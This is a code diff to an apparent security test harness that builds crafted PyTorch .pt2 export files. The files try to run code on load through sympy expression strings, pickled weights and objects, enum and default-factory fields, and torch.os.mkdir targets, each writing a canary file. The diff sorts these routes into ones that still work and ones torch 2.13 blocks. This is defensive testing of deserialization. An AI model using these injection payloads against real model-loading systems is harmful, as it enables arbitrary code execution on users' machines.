@@ -277,7 +277,8 @@ def expression(program: dict[str, Any], canary: str) -> None:
 
 def expression_of_words(program: dict[str, Any], canary: str) -> None:
     """sympy evaluates texts within texts."""
-    code = f'Add(\'open("{canary}", "w")\')'
+    inner = f"__import__('builtins').open('{canary}', 'w')"
+    code = f'S("{inner}")'
     meta = program["graph_module"]["graph"]["tensor_values"]["x"]
     meta["sizes"][0]["as_expr"]["expr_str"] = code
 
@@ -414,21 +415,30 @@ def torch_export_roads() -> dict[str, Maker]:
         "pickled_weight": payload("weights", "weight_9", evil_checkpoint),
         "pickled_constant": payload("constants", "tensor_9", evil_checkpoint),
         "pickled_object": payload("constants", "opaque_obj_0", unpickled),
-        "script_object": payload("constants", "custom_obj_0", script_object),
         "layout_of_torch_2_7": before_2_8,
         "expression": edited(expression),
         "expression_in_a_text": edited(expression_of_words),
         "expression_of_a_tensor_called_metadata": edited(tensor_called_metadata),
         "guard": edited(guard),
+        "enum": edited(enum_of_a_module),
+        "default_factory": edited(default_factory),
+        "custom_operator": edited(custom_operator),
+        "mapped_file": edited(mapped_file),
+    }
+
+
+def shut_roads() -> dict[str, Maker]:
+    """Name → .pt2 that would write the canary, if torch 2.13 didn't fail on it before.
+
+    What it fails on may change, and so might the text that gets through.
+    """
+    return {
+        "script_object": payload("constants", "custom_obj_0", script_object),
         "name_of_a_node": edited(node_name),
         "name_of_an_argument": edited(argument_name),
         "name_of_a_keyword": edited(keyword),
-        "enum": edited(enum_of_a_module),
-        "default_factory": edited(default_factory),
         "os_in_torch": target("torch.os.mkdir", "PATH"),
         "os_through_modules": target("torch.functional.torch.os.mkdir", "PATH"),
-        "custom_operator": edited(custom_operator),
-        "mapped_file": edited(mapped_file),
     }
 
 
